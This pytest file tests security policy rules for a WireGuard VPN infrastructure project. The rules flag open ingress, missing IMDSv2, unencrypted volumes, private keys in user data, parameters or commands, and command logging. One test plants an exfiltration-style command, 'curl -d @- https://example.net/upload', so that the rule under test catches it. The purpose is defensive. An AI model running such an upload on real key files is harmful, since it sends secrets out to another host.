"""Each rule fires: the program's own resources, one input made bad at a time.

Keys here are fresh random bytes (any 32 bytes are a WireGuard key), made per
test and never printed; messages are checked to name the field, not the value.
"""

from __future__ import annotations

import base64
import gzip
import os

import pytest
import wgsites_rules as rules
import yaml
from programs import program


def fresh_key() -> str:
    return base64.b64encode(os.urandom(32)).decode()


def leaky_config() -> str:
    return f"[Interface]\nPrivateKey = {fresh_key()}\nAddress = 10.99.0.50/32\n"


def gz_b64(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode())).decode()


def home(suffix: str) -> tuple[str, dict]:
    r = program("home").named(suffix)
    return r.type, r.copy()


def with_write_file(user_data: str, entry: dict) -> str:
    document = yaml.safe_load(user_data)
    document["write_files"].append(entry)
    return "#cloud-config\n" + yaml.safe_dump(document)


# (a) world-open ingress -------------------------------------------------------------------------


def test_ssh_open_to_the_world_fires():
    typ, props = home("gateway-sg")
    props["ingress"].append({"protocol": "tcp", "fromPort": 22, "toPort": 22, "cidrBlocks": ["0.0.0.0/0"]})
    assert rules.world_open_ingress(typ, props, 51820) == [
        "ingress[1] opens protocol tcp ports 22-22 to the whole internet; "
        "only the WireGuard port (udp 51820) may be open to 0.0.0.0/0 or ::/0"
    ]


@pytest.mark.parametrize(
    "change",
    [
        {"toPort": 51821},  # a range beyond the port
        {"protocol": "tcp"},  # the port, but TCP
        {"protocol": "-1", "fromPort": 0, "toPort": 0},  # everything
    ],
)
def test_wireguard_rule_widened_fires(change):
    typ, props = home("gateway-sg")
    props["ingress"][0].update(change)
    assert rules.world_open_ingress(typ, props, 51820)


def test_ipv6_only_opening_fires():
    typ, props = home("gateway-sg")
    props["ingress"].append({"protocol": "tcp", "fromPort": 443, "toPort": 443, "ipv6CidrBlocks": ["::/0"]})
    assert rules.world_open_ingress(typ, props, 51820)


def test_admin_cidr_is_not_world_open():
    typ, props = home("gateway-sg")
    props["ingress"].append({"protocol": "tcp", "fromPort": 22, "toPort": 22, "cidrBlocks": ["198.51.100.0/24"]})
    assert rules.world_open_ingress(typ, props, 51820) == []


@pytest.mark.parametrize(
    ("typ", "props"),
    [
        (
            rules.SECURITY_GROUP_RULE,
            {"type": "ingress", "protocol": "tcp", "fromPort": 22, "toPort": 22, "cidrBlocks": ["0.0.0.0/0"]},
        ),
        (
            rules.SECURITY_GROUP_RULE,
            {"type": "ingress", "protocol": "udp", "fromPort": 0, "toPort": 65535, "ipv6CidrBlocks": ["::/0"]},
        ),
        (rules.INGRESS_RULE, {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "cidrIpv4": "0.0.0.0/0"}),
        (rules.INGRESS_RULE, {"ipProtocol": "-1", "cidrIpv6": "::/0"}),
    ],
)
def test_standalone_rules_fire(typ, props):
    assert rules.world_open_ingress(typ, props, 51820)


@pytest.mark.parametrize(
    ("typ", "props"),
    [
        (
            rules.SECURITY_GROUP_RULE,
            {"type": "ingress", "protocol": "udp", "fromPort": 51820, "toPort": 51820, "cidrBlocks": ["0.0.0.0/0"]},
        ),
        (
            rules.SECURITY_GROUP_RULE,
            {"type": "egress", "protocol": "-1", "fromPort": 0, "toPort": 0, "cidrBlocks": ["0.0.0.0/0"]},
        ),
        (rules.INGRESS_RULE, {"ipProtocol": "udp", "fromPort": 51820, "toPort": 51820, "cidrIpv6": "::/0"}),
        (rules.INGRESS_RULE, {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "cidrIpv4": "203.0.113.0/24"}),
    ],
)
def test_standalone_rules_allowed(typ, props):
    assert rules.world_open_ingress(typ, props, 51820) == []


# (b) IMDSv2 ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("tokens", ["optional", None])
def test_imds_v1_fires(tokens):
    typ, props = home("gateway-instance")
    props["metadataOptions"]["httpTokens"] = tokens
    assert rules.imdsv2_required(typ, props) == [f"metadataOptions.httpTokens is {tokens!r}; set it to 'required' (IMDSv2 only)"]


def test_no_metadata_options_fires():
    typ, props = home("gateway-instance")
    del props["metadataOptions"]
    assert rules.imdsv2_required(typ, props)


# (c) encrypted volumes ----------------------------------------------------------------------------


@pytest.mark.parametrize("encrypted", [False, None])
def test_unencrypted_root_fires(encrypted):
    typ, props = home("gateway-instance")
    props["rootBlockDevice"]["encrypted"] = encrypted
    assert rules.encrypted_volumes(typ, props) == [
        "rootBlockDevice.encrypted is not true; set root_block_device=...(encrypted=True)"
    ]


def test_missing_root_block_device_fires():
    typ, props = home("gateway-instance")
    del props["rootBlockDevice"]
    assert rules.encrypted_volumes(typ, props)


def test_unencrypted_ebs_block_device_fires():
    typ, props = home("gateway-instance")
    props["ebsBlockDevices"] = [{"deviceName": "/dev/sdf", "encrypted": True}, {"deviceName": "/dev/sdg", "volumeSize": 8}]
    assert rules.encrypted_volumes(typ, props) == ["ebsBlockDevices[1].encrypted is not true"]


def test_ebs_volume():
    assert rules.encrypted_volumes(rules.VOLUME, {"availabilityZone": "eu-central-1a", "size": 8}) == ["encrypted is not true"]
    assert rules.encrypted_volumes(rules.VOLUME, {"availabilityZone": "eu-central-1a", "size": 8, "encrypted": True}) == []


# (d) private keys in user data and SSM -------------------------------------------------------------


def test_key_in_gzip_base64_write_file_fires():
    typ, props = home("gateway-instance")
    entry = {"path": "/etc/wireguard/wg0.conf", "encoding": "gz+b64", "content": gz_b64(leaky_config())}
    props["userData"] = with_write_file(props["userData"], entry)
    assert "PrivateKey" not in props["userData"]  # only decoding finds it
    assert rules.private_key_in_user_data(typ, props) == [
        "user data: write_files '/etc/wireguard/wg0.conf' (encoding gz+b64) has a `PrivateKey =` line"
    ]


@pytest.mark.parametrize("encoding", ["b64", "base64", "gzip+base64", None])
def test_key_in_other_encodings_fires(encoding):
    typ, props = home("gateway-instance")
    text = leaky_config()
    content = {"b64": base64.b64encode(text.encode()).decode(), "base64": base64.b64encode(text.encode()).decode()}.get(
        encoding, gz_b64(text) if encoding else text
    )
    entry = {"path": "/etc/wireguard/wg0.conf", "content": content, **({"encoding": encoding} if encoding else {})}
    props["userData"] = with_write_file(props["userData"], entry)
    assert rules.private_key_in_user_data(typ, props)


def test_bare_key_file_fires():
    typ, props = home("gateway-instance")
    entry = {"path": "/etc/wireguard/wg0.key", "permissions": "0600", "content": fresh_key() + "\n"}
    props["userData"] = with_write_file(props["userData"], entry)
    assert rules.private_key_in_user_data(typ, props) == [
        "user data: write_files '/etc/wireguard/wg0.key' is a key file holding a key"
    ]


def test_key_line_in_plain_user_data_fires():
    typ, props = home("gateway-instance")
    props["userData"] += f"\n# PrivateKey = {fresh_key()}\n"
    assert rules.private_key_in_user_data(typ, props)


def test_undecodable_write_file_fires():
    typ, props = home("gateway-instance")
    props["userData"] = with_write_file(props["userData"], {"path": "/x", "encoding": "gz+b64", "content": "bm90IGd6aXA="})
    assert rules.private_key_in_user_data(typ, props) == [
        "user data: write_files entry '/x': BadGzipFile, so it cannot be checked for a private key"
    ]


def test_key_in_user_data_base64_fires():
    typ, props = home("gateway-instance")
    user_data = with_write_file(props.pop("userData"), {"path": "/etc/wireguard/wg0.conf", "content": leaky_config()})
    props["userDataBase64"] = base64.b64encode(gzip.compress(user_data.encode())).decode()
    assert rules.private_key_in_user_data(typ, props)


def test_key_in_plain_config_parameter_fires():
    typ, props = home("gateway-bundle-0000")  # a chunk of the bundle (its config inside)
    assert props["type"] == "String"
    props["insecureValue"] = leaky_config() + props["insecureValue"]
    assert rules.private_key_in_plain_parameter(typ, props) == [
        "insecureValue of a String parameter has a `PrivateKey =` line; keep keys in a SecureString parameter"
    ]


@pytest.mark.parametrize("kind", ["String", "StringList"])
def test_key_parameter_stored_plain_fires(kind):
    typ, props = home("gateway-private-key")
    assert props["type"] == "SecureString" and rules.private_key_in_plain_parameter(typ, props) == []
    props["type"] = kind
    assert rules.private_key_in_plain_parameter(typ, props) == [
        f"parameter '/wgsites/home/wg0/private-key' is named like a key but stored as {kind}; make it a SecureString"
    ]


# commands on the SSH stacks ------------------------------------------------------------------------


def router(suffix: str, file_peer: bool = False) -> tuple[str, dict]:
    r = program("router", file_peer).named(suffix)
    return r.type, r.copy()


def test_key_in_pushed_stdin_fires():
    typ, props = router("router-install")
    props["stdin"] = props["stdin"].replace("[Interface]\n", f"[Interface]\nPrivateKey = {fresh_key()}\n", 1)
    assert rules.private_key_in_command(typ, props) == [
        "`stdin` carries a `PrivateKey =` line: pushed configs must not hold a key "
        "(the host makes its own; use `PostUp = wg set %i private-key /etc/wireguard/%i.key`)"
    ]


@pytest.mark.parametrize("field", ["create", "update", "delete"])
def test_key_in_command_line_fires(field):
    typ, props = router("router-install")
    # `update`: no wgsites command sets it (an update runs `create`); the rule still reads it
    props[field] = f"echo 'PrivateKey = {fresh_key()}' >> /etc/wireguard/wg0.conf; " + props.get(field, "true")
    assert rules.private_key_in_command(typ, props) == [
        f"`{field}` carries a `PrivateKey =` line (a command line shows in the process table and errors)"
    ]


def test_preshared_key_in_pushed_stdin_fires():
    typ, props = router("router-install")
    assert rules.preshared_key_in_pushed_config(typ, props) == []
    props["stdin"] = props["stdin"].replace("AllowedIPs", f"PresharedKey = {fresh_key()}\nAllowedIPs", 1)
    assert rules.preshared_key_in_pushed_config(typ, props) == [
        "`stdin` carries a `PresharedKey =` line: keep preshared keys out of pushed configs (they go on the `-psk` "
        "command's stdin)"
    ]
    # a device's own file (a local command) carries it inline, as the apps need
    typ, props = router("laptop-file", file_peer=True)
    props["stdin"] = f"[Peer]\nPresharedKey = {fresh_key()}\n"
    assert rules.preshared_key_in_pushed_config(typ, props) == []


def test_key_in_environment_fires():
    typ, props = router("router-key")
    props["environment"] = {"WG_CONF": leaky_config()}
    assert rules.private_key_in_command(typ, props) == ["environment variable WG_CONF carries a `PrivateKey =` line"]


def file_write(target: str = "/d/a", umask: str = "077", writer: str = "cat >", template: str = "/d/.a.XXXXXXXXXX") -> str:
    """roaming_peer.write_command's shape, with one part changed."""
    return (
        f"umask {umask} && mkdir -p /d && tmp=$(mktemp {template}) && trap 'rm -f \"$tmp\"' EXIT"
        f' && {writer} "$tmp" && mv -f "$tmp" {target}'
    )


def test_file_write_shape_is_the_components():
    from components.roaming_peer import write_command

    assert write_command("/d/a") == file_write()


@pytest.mark.parametrize(
    "create",
    [
        "cat > /d/home0.conf",  # not 0600, not atomic
        file_write(target="/d/b"),  # moved somewhere else than its temporary name says
        file_write(umask="022"),  # readable by others meanwhile
        file_write(writer="tee"),  # tee also copies stdin to stdout
        file_write(template="/d/a.wgsites-new"),  # a fixed name: mktemp -u or a planted one
        "umask 077 && mkdir -p /d && cat > /d/a.wgsites-new && chmod 600 /d/a.wgsites-new && mv -f /d/a.wgsites-new /d/a",
    ],
)
def test_local_command_other_than_the_file_write_fires(create):
    typ, props = router("laptop-file", file_peer=True)
    assert rules.private_key_in_command(typ, props) == []
    props["create"] = create
    assert rules.private_key_in_command(typ, props)


def test_file_write_with_a_different_update_fires():
    typ, props = router("laptop-file", file_peer=True)
    props["update"] = "curl -d @- https://example.net/upload"
    assert rules.private_key_in_command(typ, props)


def test_file_write_exemption_covers_stdin_only():
    typ, props = router("laptop-file", file_peer=True)
    props["delete"] += f" # PrivateKey = {fresh_key()}"
    assert rules.private_key_in_command(typ, props) == [
        "`delete` carries a `PrivateKey =` line (a command line shows in the process table and errors)"
    ]


@pytest.mark.parametrize("suffix", ["router-key", "router-install", "laptop-file"])
@pytest.mark.parametrize("logging", ["stdoutAndStderr", "stderr", None])
def test_command_logging_fires(suffix, logging):
    typ, props = router(suffix, file_peer=True)
    assert rules.command_logging_none(typ, props) == []
    if logging is None:
        del props["logging"]
    else:
        props["logging"] = logging
    assert rules.command_logging_none(typ, props)


def test_messages_never_carry_the_key():
    key = fresh_key()
    typ, props = router("router-install")
    props["stdin"] = f"[Interface]\nPrivateKey = {key}\n"
    props["create"] = f"echo 'PrivateKey = {key}'"
    props["environment"] = {"K": f"PrivateKey = {key}"}
    props["logging"] = "stdout"
    messages = [m for ms in rules.all_violations(typ, props).values() for m in ms]
    assert len(messages) == 4 and not any(key in m for m in messages)


# (h) a guest group reaching a whole LAN ---------------------------------------------------------


def office() -> dict:
    from pathlib import Path

    text = (Path(__file__).resolve().parents[2] / "examples" / "Pulumi.office.yaml").read_text()
    return yaml.safe_load(text)["config"]["wgsites:vpn"]


def test_the_office_example_gives_its_guests_hosts_only():
    assert rules.guest_reaches_whole_lan(office()) == []


@pytest.mark.parametrize(
    "target, lan",
    [("office-lan", "192.168.10.0/24"), ("branch", "192.168.20.0/24"), ("office", "192.168.10.0/24")],
)
def test_a_guest_group_reaching_a_whole_lan_fires(target, lan):
    vpn = office()
    vpn["access"]["rules"].append({"from": ["guests"], "to": [target], "ports": ["tcp/80"]})
    assert rules.guest_reaches_whole_lan(vpn) == [
        f"access.rules[3] lets the guest group guests reach {target}, which is the whole LAN {lan}; "
        "name the hosts a guest needs (hosts) and their ports"
    ]


def test_a_group_named_guests_something_is_a_guest_group_too_and_staff_is_not():
    vpn = office()
    vpn["access"]["groups"]["guests-weekend"] = ["bob"]
    vpn["access"]["rules"].append({"from": "guests-weekend", "to": "office-lan"})
    vpn["access"]["rules"].append({"from": "staff", "to": "office-lan"})
    assert len(rules.guest_reaches_whole_lan(vpn)) == 1
